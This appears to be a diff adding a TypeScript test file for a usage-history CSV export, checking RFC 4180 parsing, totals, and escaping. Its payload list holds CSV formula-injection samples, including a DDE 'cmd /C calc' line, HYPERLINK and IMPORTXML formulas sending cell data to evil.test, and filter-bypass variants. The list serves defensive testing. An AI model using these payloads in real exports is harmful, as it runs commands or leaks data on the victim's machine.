@@ -1,0 +1,151 @@
+import assert from 'node:assert/strict'
+import { after, describe, test } from 'node:test'
+
+import { formatCallId } from '../call-id.ts'
+import { fund, testBooks } from '../dev/test-books.ts'
+import { pastCall, writeHistory } from '../dev/test-history.ts'
+import { formatUsd } from '../money.ts'
+import { csvCell } from './csv.ts'
+import { everything, type Filter } from './filter.ts'
+import { csvHeads, listCalls, streamCsv, totals, type ListedCall } from './usage.server.ts'
+
+const books = await testBooks()
+after(books.close)
+const { pool, sql } = books
+
+/** A reader of RFC 4180 and nothing else: lines end with CRLF, quotes are doubled. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
+  for (let match = field.exec(text); match; match = field.exec(text)) {
+    row.push(match[1] === undefined ? match[2]! : match[1].replaceAll('""', '"'))
+    if (match[3] === '\r\n') {
+      rows.push(row)
+      row = []
+    }
+    if (field.lastIndex === text.length) return rows
+  }
+  throw new Error('not RFC 4180')
+}
+
+async function download(accountId: number, filter: Filter) {
+  const pieces: string[] = []
+  for await (const piece of streamCsv(pool, accountId, filter)) pieces.push(piece)
+  const [heads, ...rows] = parseCsv(pieces.join(''))
+  assert.deepEqual(heads, csvHeads)
+  const records = rows.map((row) => {
+    assert.equal(row.length, csvHeads.length)
+    return Object.fromEntries(csvHeads.map((head, i) => [head, row[i]!]))
+  })
+  return { pieces, records }
+}
+
+/** What a spreadsheet would show of a text: the apostrophe before it is a mark, not a letter. */
+const shown = (cell: string) => cell.replace(/^'/, '')
+
+/** What must do nothing in a spreadsheet: OWASP's list, its ways around filters, and plain DDE. */
+const payloads = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A9)',
+  '=cmd|\u0027 /C calc\u0027!A0',
+  '=HYPERLINK("http://evil.test?x="&A1,"click")',
+  '=IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\ufeff=1+1',
+  '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20SUM(1)',
+  '"=1+1"',
+  '\u0027=1+1',
+  'a",=1+1,"b',
+  'x\r\n=1+1',
+]
+
+describe('the CSV of the call history', () => {
+  test('parses back to exactly the calls and the sums that the page shows', async () => {
+    const me = await fund(books)
+    const firstMs = Date.UTC(2026, 9, 1)
+    const calls = Array.from({ length: 2_500 }, (_, i) =>
+      pastCall({
+        ...{ accountId: me.accountId, keyId: me.keyId, costNanos: i * 7_919 },
+        ...{ startedAt: new Date(firstMs + i * 1_000_003), model: i % 3 ? 'gpt-a' : 'gpt-b' },
+        ...{ statusCode: i % 11 ? 200 : 502, client: i % 5 ? 'cürl "7", or so' : null },
+        ...{ planNanos: i, balanceNanos: i * 7_918, firstByteMs: i % 2 ? null : i },
+      }),
+    )
+    await writeHistory(pool, calls)
+    const other = await fund(books)
+    const theirs = { accountId: other.accountId, keyId: other.keyId, startedAt: new Date(firstMs) }
+    await writeHistory(pool, [pastCall(theirs)])
+    for (const filter of [everything, { ...everything, model: 'gpt-b', status: '2xx' }]) {
+      const { records, pieces } = await download(me.accountId, filter)
+      const sum = await totals(pool, me.accountId, filter)
+      assert.equal(records.length, sum.calls)
+      assert.ok(pieces.length >= sum.calls / 1_000, 'comes in slices')
+      const nanos = records.map((row) => BigInt(row['Cost (USD)']!.replace('.', '')))
+      assert.equal(
+        nanos.reduce((a, b) => a + b, 0n),
+        BigInt(sum.costNanos),
+      )
+      const paging = { before: null, after: null, page: 1, rows: 100 }
+      const page = await listCalls(pool, me.accountId, filter, paging)
+      for (const [i, call] of page.calls.entries()) assertShows(records[i]!, call)
+      assert.deepEqual(
+        records.map((row) => row['Call']!),
+        records
+          .map((row) => row['Call']!)
+          .sort()
+          .reverse(),
+      )
+    }
+  })
+
+  function assertShows(row: Record<string, string>, call: ListedCall) {
+    assert.equal(row['Call'], formatCallId(call.id))
+    assert.equal(row['Time (UTC)'], call.startedAt.toISOString())
+    assert.deepEqual([row['Model'], row['Status']], [call.model, String(call.statusCode)])
+    assert.equal(row['Cost (USD)'], formatUsd(call.costNanos))
+    assert.match(row['Cost (USD)']!, /^\d+\.\d{9}$/)
+    assert.equal(row['First byte (ms)'], String(call.firstByteMs ?? ''))
+    assert.equal(row['Client'], call.client ?? '')
+    assert.equal(row['Tokens in'], String(call.inputTokens))
+  }
+
+  test('formulas do nothing, and are still there to be read', async () => {
+    const me = await fund(books)
+    const startMs = Date.UTC(2026, 10, 1)
+    const calls = payloads.map((client, i) => {
+      const startedAt = new Date(startMs - i * 1_000)
+      return pastCall({ accountId: me.accountId, keyId: me.keyId, client, startedAt })
+    })
+    await writeHistory(pool, calls)
+    await sql('update api_keys set name = ? where id = ?', [payloads[5], me.keyId])
+    const { records } = await download(me.accountId, everything)
+    for (const [i, payload] of payloads.entries()) {
+      const cell = records[i]!['Client']!
+      assert.equal(shown(cell), payload)
+      assert.doesNotMatch(cell, /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/)
+      assert.doesNotMatch(cell, /^[\s\p{Cc}\p{Cf}"]+[=+\-@\uff1d\uff0b\uff0d\uff20]/u)
+      assert.equal(shown(records[i]!['Key']!), payloads[5])
+    }
+  })
+
+  test('a cell that could break its row is quoted, and a figure is left alone', () => {
+    assert.equal(csvCell('a,b'), '"a,b"')
+    assert.equal(csvCell('say "hi"'), '"say ""hi"""')
+    assert.equal(csvCell('a\nb'), '"a\nb"')
+    assert.equal(csvCell(-5), '-5')
+    assert.equal(csvCell(null), '')
+    assert.equal(csvCell('gpt-4o'), 'gpt-4o')
+    assert.equal(csvCell('=A1'), `"'=A1"`)
+  })
+})
